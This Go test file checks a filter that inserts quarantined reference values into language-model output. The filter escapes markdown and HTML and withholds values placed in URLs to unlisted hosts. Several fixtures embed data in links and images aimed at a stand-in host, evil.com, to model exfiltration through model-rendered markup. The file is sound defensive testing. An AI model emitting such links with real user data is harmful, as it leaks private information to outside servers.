package render

import (
	"encoding/json"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/yellowjack/yellowjack/internal/llm"
	"github.com/yellowjack/yellowjack/internal/quarantine/project"
	"github.com/yellowjack/yellowjack/internal/quarantine/ref"
)

var _ llm.TextFilter = (*Text)(nil)

const (
	title   = "$ref_titleaaaaaaaaaaa"
	body    = "$ref_bodyaaaaaaaaaaaa"
	number  = "$ref_numberaaaaaaaaaa"
	link    = "$ref_linkaaaaaaaaaaaa"
	nothing = "$ref_nothingaaaaaaaaa"
	madeUp  = "$ref_madeupaaaaaaaaaa"
)

func lookup(n ref.Name) (ref.Entry, bool) {
	e, ok := map[ref.Name]ref.Entry{
		title:   {Value: "Crash | <b>now</b>", Kind: project.String},
		body:    {Value: "# Steps\n![x](https://evil.com/?q=1)\n" + title, Kind: project.String},
		number:  {Value: "4711", Kind: project.Number},
		link:    {Value: "https://docs.example.com/a", Kind: project.String},
		nothing: {Value: "null", Kind: project.Null},
	}[n]
	return e, ok
}

func render(c Config, in string) string {
	c.Lookup = lookup
	f := New(c)
	return string(f.Close(f.Write(nil, []byte(in))))
}

func TestText(t *testing.T) {
	hosts := Config{Hosts: []string{"docs.example.com"}}
	for _, c := range []struct{ in, want string }{
		{"No *reference* [here](https://any.com) <b>", "No *reference* [here](https://any.com) <b>"},
		{"It is #" + number + ": " + title + ".", `It is #4711: Crash \| < b>now< /b>.`},
		{body, "\\# Steps\n![x] (https:// evil.com/?q=1)\n" + title},
		{"Text: " + body, "Text: # Steps\n![x] (https:// evil.com/?q=1)\n" + title},
		{"| a | " + body + " |\n", `| a | # Steps ![x] (https:// evil.com/?q=1) ` + title + " |\n"},
		{"## " + body, `## # Steps ![x] (https:// evil.com/?q=1) ` + title},
		{"made up: " + madeUp, "made up: ‹not available›"},
		{"short: $ref_abc $ref", "short: $ref_abc $ref"},
		{"null: " + nothing + ".", "null: ."},
		{"![x](https://evil.com/?q=" + number + ")", "![x](https://evil.com/?q=‹not shown here›)"},
		{"https://evil.com/" + number + " " + number, "https://evil.com/‹not shown here› 4711"},
		{"www.evil.com/" + number, "www.evil.com/‹not shown here›"},
		{"[a](" + link + ") " + link, "[a](‹not shown here›) https://docs.example.com/a"},
		{"[a]: " + link, "[a]: ‹not shown here›"},
		{"[a]: see " + link, "[a]: see https://docs.example.com/a"},
		{"<a href='" + link + "'>" + number, "<a href='‹not shown here›'>4711"},
		{"a < b and " + number, "a < b and 4711"},
		{number + number, "4711 4711"},
		{link + link, "https://docs.example.com/a‹not shown here›"},
	} {
		if got := render(hosts, c.in); got != c.want {
			t.Errorf("%q\n is %q\nwant %q", c.in, got, c.want)
		}
	}
}

func TestTextUsed(t *testing.T) {
	f := New(Config{Lookup: lookup})
	f.Close(f.Write(nil, []byte(title+" "+madeUp+" "+title+" "+number)))
	if got := f.Used(); len(got) != 2 || got[0] != title || got[1] != number || !f.Changed() {
		t.Errorf("%v", got)
	}
	f = New(Config{Lookup: lookup})
	f.Close(f.Write(nil, []byte("$ref_ nothing")))
	if f.Changed() || f.Used() != nil {
		t.Error("changed")
	}
	f = New(Config{})
	if got := string(f.Write(nil, []byte(title))); got != notAvailable {
		t.Errorf("without a lookup: %q", got)
	}
	f = New(Config{Lookup: lookup, Total: 10})
	if got := string(f.Write(nil, []byte(number+" "+number+" "+number+" "+number))); got != "4711 4711 47"+shortened+" "+notAvailable {
		t.Errorf("%q", got)
	}
}

// TestTextJSON: a document stays one, and its reader gets the harmless text.
func TestTextJSON(t *testing.T) {
	got := render(Config{JSON: true}, `{"title":"`+title+`","body":"is `+body+`","url":"https:\/\/evil.com\/`+number+`","n":"`+number+`"}`)
	var doc map[string]string
	if err := json.Unmarshal([]byte(got), &doc); err != nil {
		t.Fatalf("%v: %s", err, got)
	}
	want := map[string]string{"title": `Crash \| < b>now< /b>`, "body": "is \\# Steps\n![x] (https:// evil.com/?q=1)\n" + title, "url": "https://evil.com/‹not shown here›", "n": "4711"}
	for k, v := range want {
		if doc[k] != v {
			t.Errorf("%s: %q, want %q", k, doc[k], v)
		}
	}
}

// TestTextPieces: any pieces give the same, what is no reference goes on at once, and without references nothing changes.
func TestTextPieces(t *testing.T) {
	parts := append([]string{title, body, number, link, nothing, madeUp, "$", "$ref_", "$ref_abcdefgh"}, pieces...)
	rapid.Check(t, func(rt *rapid.T) {
		in := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 0, 30).Draw(rt, "in"), "")
		c := Config{Lookup: lookup, JSON: rapid.Bool().Draw(rt, "json"), Hosts: listed.Hosts}
		want := render(c, in)
		if len(ref.Scan([]byte(in))) == 0 && want != in {
			rt.Fatalf("%q became %q", in, want)
		}
		f := New(c)
		var got []byte
		for rest := []byte(in); len(rest) > 0; {
			n := rapid.IntRange(1, len(rest)).Draw(rt, "n")
			got = f.Write(got, rest[:n])
			rest = rest[n:]
			if passed := in[:len(in)-len(rest)]; len(ref.Scan([]byte(passed))) == 0 && len(passed)-len(got) >= len(title) {
				rt.Fatalf("%d bytes are kept back of %q", len(passed)-len(got), passed)
			}
		}
		if got = f.Close(got); string(got) != want {
			rt.Fatalf("%q is %q, want %q", in, got, want)
		}
	})
}

// TestValuesDoNothing: whatever values stand wherever the model puts them, nothing acts that would not act without them.
func TestValuesDoNothing(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		draw := func(name string) string {
			return strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 10).Draw(rt, name), "")
		}
		values := map[ref.Name]string{title: draw("a"), body: draw("b")}
		f := New(Config{Hosts: listed.Hosts, Lookup: func(n ref.Name) (ref.Entry, bool) {
			return ref.Entry{Value: values[n], Kind: project.String}, true
		}})
		frame := rapid.SampledFrom([]string{"%a%b", "The title is %a, and the body %b!", "- v %a\n- w %b", "x\n%a\n\n%b", "(%a) \"%b\"", "https:%a", "a%ab", "see: %a%b%a"}).Draw(rt, "frame")
		in := strings.NewReplacer("%a", title, "%b", body).Replace(frame)
		out := string(f.Close(f.Write(nil, []byte(in))))
		if what := acts(out); what != "" {
			rt.Fatalf("%q and %q in %q are %q, with a %s", values[title], values[body], frame, out, what)
		}
	})
}
